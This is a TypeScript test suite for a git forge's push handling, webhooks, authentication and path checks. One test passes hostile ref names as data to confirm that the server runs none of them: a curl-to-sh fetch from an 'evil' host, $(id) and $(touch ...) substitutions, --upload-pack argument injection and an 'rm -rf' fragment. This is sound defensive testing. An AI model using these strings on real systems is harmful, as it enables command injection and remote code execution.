import { once } from 'node:events';
import { access, chmod } from 'node:fs/promises';
import { connect } from 'node:net';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { startTestForge, type TestForge } from './testing.ts';

let forge: TestForge;
beforeEach(async () => {
  forge = await startTestForge();
  await forge.api('POST', '/repos', {
    name: 'hello',
    webhook: { url: 'http://127.0.0.1:9/hooks/x', secret: 's3cret' },
  });
});
afterEach(() => forge.close());

const payloads = async (): Promise<Record<string, unknown>[]> => {
  await forge.server.delivered();
  return forge.deliveries.map(({ body }) => JSON.parse(body) as Record<string, unknown>);
};

test('a push is stored, readable again and announced as one push event', async () => {
  const copy = await forge.workingCopy('hello');
  const sha = await copy.commit('first\n\nwith a body', { 'a.txt': 'one\n' });
  await copy.git('push', '-q', 'origin', 'main');
  expect(await payloads()).toMatchObject([
    { ref: 'refs/heads/main', before: '0'.repeat(40), after: sha, created: true, deleted: false, forced: false },
  ]);
  expect(forge.deliveries[0]).toMatchObject({ event: 'push', secret: 's3cret' });
  const clone = await forge.workingCopy('hello', { clone: true });
  expect(await clone.head()).toBe(sha);
  expect((await forge.api('GET', '/repos/hello/refs')).list).toEqual([{ ref: 'refs/heads/main', sha }]);
});

test('branch, tag, force and delete pushes each say what happened', async () => {
  const copy = await forge.workingCopy('hello');
  const first = await copy.commit('first', { a: '1' });
  await copy.git('push', '-q', 'origin', 'main');
  await copy.git('tag', 'v1');
  await copy.git('push', '-q', 'origin', 'main:side', 'v1');
  await copy.git('commit', '-q', '--amend', '-m', 'rewritten');
  const second = await copy.head();
  await copy.git('push', '-q', '-f', 'origin', 'main');
  await copy.git('push', '-q', 'origin', ':side');
  const seen = (await payloads()).map(({ ref, before, after, created, deleted, forced }) => ({
    ref,
    before,
    after,
    flags: [created && 'created', deleted && 'deleted', forced && 'forced'].filter(Boolean).join(),
  }));
  const none = '0'.repeat(40);
  expect(seen).toEqual([
    { ref: 'refs/heads/main', before: none, after: first, flags: 'created' },
    { ref: 'refs/heads/side', before: none, after: first, flags: 'created' },
    { ref: 'refs/tags/v1', before: none, after: first, flags: 'created' },
    { ref: 'refs/heads/main', before: first, after: second, flags: 'forced' },
    { ref: 'refs/heads/side', before: first, after: none, flags: 'deleted' },
  ]);
});

test('going back and forth gives bodies that all differ', async () => {
  const copy = await forge.workingCopy('hello');
  const a = await copy.commit('a', { a: '1' });
  const b = await copy.commit('b', { a: '2' });
  for (const sha of [a, b, a, b]) await copy.git('push', '-q', '-f', 'origin', `${sha}:refs/heads/main`);
  const seen = await payloads();
  expect(seen.map(({ after }) => after)).toEqual([a, b, a, b]);
  expect(new Set(forge.deliveries.map(({ body }) => body)).size).toBe(4);
  expect(seen.map(({ sluice }) => sluice)).toEqual([1, 2, 3, 4].map((sequence) => ({ sequence })));
});

test('pushing needs the token, reading does not', async () => {
  const copy = await forge.workingCopy('hello');
  await copy.commit('first', { a: '1' });
  await copy.git('remote', 'add', 'open', `${forge.url}/hello.git`);
  await expect(copy.git('push', 'open', 'main')).rejects.toThrow(/could not read Username|Authentication failed/);
  const bad = forge.url.replace('http://', 'http://ada:wrong-token@');
  await expect(copy.git('push', `${bad}/hello.git`, 'main')).rejects.toThrow(/Authentication failed/);
  await copy.git('push', '-q', 'origin', 'main');
  expect(await copy.git('ls-remote', 'open')).toContain('refs/heads/main');
  const refused = await fetch(`${forge.url}/hello.git/info/refs?service=git-receive-pack`);
  expect(refused.status).toBe(401);
  expect(refused.headers.get('www-authenticate')).toContain('Basic');
});

test.for([
  { path: '/nope.git/info/refs?service=git-upload-pack', want: 404 },
  { path: '/hello.git/info/refs', want: 403 },
  { path: '/hello.git/info/refs?service=git-upload-archive', want: 403 },
  { path: '/hello.git/HEAD', want: 404 },
  { path: '/hello.git/../1.git/config', want: 404 },
  { path: '/1.git/info/refs?service=git-upload-pack', want: 404 },
  { path: '/HELLO.git/info/refs?service=git-upload-pack', want: 404 },
])('GET $path is answered $want', async ({ path, want }) => {
  const request = { method: 'GET', path, headers: {} };
  expect((await forge.server.handle(request)).status).toBe(want);
});

test('twenty clones that push at once lose nothing', { timeout: 60_000 }, async () => {
  const copy = await forge.workingCopy('hello');
  await copy.commit('first', { a: '1' });
  await copy.git('push', '-q', 'origin', 'main');
  const clones = await Promise.all(Array.from({ length: 20 }, () => forge.workingCopy('hello', { clone: true })));
  const shas = await Promise.all(clones.map((clone, index) => clone.commit(`c${index}`, { [`f${index}`]: 'x' })));
  await Promise.all(clones.map((clone, index) => clone.git('push', '-q', 'origin', `HEAD:refs/heads/b${index}`)));
  const seen = (await payloads()).slice(1).map(({ ref, after }) => `${String(ref)} ${String(after)}`);
  expect(seen.sort()).toEqual(shas.map((sha, index) => `refs/heads/b${index} ${sha}`).sort());
});

test('a large push arrives packed and chunked', async () => {
  const copy = await forge.workingCopy('hello');
  const noise = Array.from({ length: 60_000 }, (_, index) => `${index * 7919} ${(index * 104_729) % 65_537}`).join(
    '\n',
  );
  const sha = await copy.commit('big', { 'big.txt': noise });
  await copy.git('-c', 'http.postBuffer=1024', 'push', '-q', 'origin', 'main');
  expect(await payloads()).toMatchObject([{ after: sha }]);
});

test('refs of pull requests cannot be pushed directly, nor can the default branch be deleted', async () => {
  const copy = await forge.workingCopy('hello');
  await copy.commit('first', { a: '1' });
  await copy.git('push', '-q', 'origin', 'main');
  await expect(copy.git('push', 'origin', 'main:refs/pull/7/head')).rejects.toThrow(/hidden ref/);
  await expect(copy.git('push', 'origin', ':main')).rejects.toThrow(/deletion of the current branch/);
});

test(
  'a push of a thousand tags is announced ref by ref without a thousand processes',
  { timeout: 60_000 },
  async () => {
    const copy = await forge.workingCopy('hello');
    const sha = await copy.commit('first', { a: '1' });
    const refs = Array.from({ length: 1_000 }, (_, index) => `refs/tags/v${index} ${sha}`);
    await copy.git('tag', '-a', '-m', 'annotated', 'annotated');
    await copy.write(
      '.git/packed-refs',
      `${refs
        .map((line) => line.split(' ').reverse().join(' '))
        .sort()
        .join('\n')}\n`,
    );
    await copy.git('push', '-q', 'origin', '--tags');
    const seen = await payloads();
    expect(seen).toHaveLength(1_001);
    const heads = new Set(seen.map(({ head_commit }) => (head_commit as { id: string }).id));
    expect([...heads]).toEqual([sha]);
  },
);

test('a push is announced even where the hook could not run', async () => {
  await chmod(`${forge.directory}/hooks/post-receive`, 0o644);
  const copy = await forge.workingCopy('hello');
  const sha = await copy.commit('first', { a: '1' });
  await copy.git('push', '-q', 'origin', 'main');
  expect(await payloads()).toMatchObject([{ ref: 'refs/heads/main', after: sha }]);
});

test('ref names that a shell would act on arrive byte for byte and start nothing', async () => {
  const copy = await forge.workingCopy('hello');
  const sha = await copy.commit('$(touch pwned) `id` "; rm -rf', { a: '1' });
  const marker = `${forge.directory}/pwned`;
  const names = [
    `x";curl\${IFS}evil|sh;"`,
    '$(id)',
    `$(touch\${IFS}${marker})`,
    '-uevil',
    '--upload-pack=x',
    '{{=1}}',
    "it's",
    'ü',
  ];
  await copy.git('push', '-q', 'origin', ...names.map((name) => `HEAD:refs/heads/${name}`));
  const refs = (await payloads()).map(({ ref }) => String(ref));
  expect(refs.sort()).toEqual(names.map((name) => `refs/heads/${name}`).sort());
  expect((await forge.api('GET', '/repos/hello/refs')).list).toHaveLength(names.length);
  await expect(access(marker)).rejects.toThrow('ENOENT');
  expect(sha).toMatch(/^[0-9a-f]{40}$/);
});

test('a client that goes away in the middle of a push leaves nothing behind', async () => {
  const { hostname, port } = new URL(forge.url);
  const authorization = `Basic ${Buffer.from(`ada:${forge.token}`).toString('base64')}`;
  const socket = connect(Number(port), hostname);
  await once(socket, 'connect');
  socket.write(
    `POST /hello.git/git-receive-pack HTTP/1.1\r\nhost: x\r\nauthorization: ${authorization}\r\n` +
      'content-type: application/x-git-receive-pack-request\r\ntransfer-encoding: chunked\r\n\r\n4\r\n00a0\r\n',
  );
  await once(socket, 'data');
  socket.destroy();
  const copy = await forge.workingCopy('hello');
  const sha = await copy.commit('first', { a: '1' });
  await copy.git('push', '-q', 'origin', 'main');
  expect(await payloads()).toMatchObject([{ after: sha }]);
});
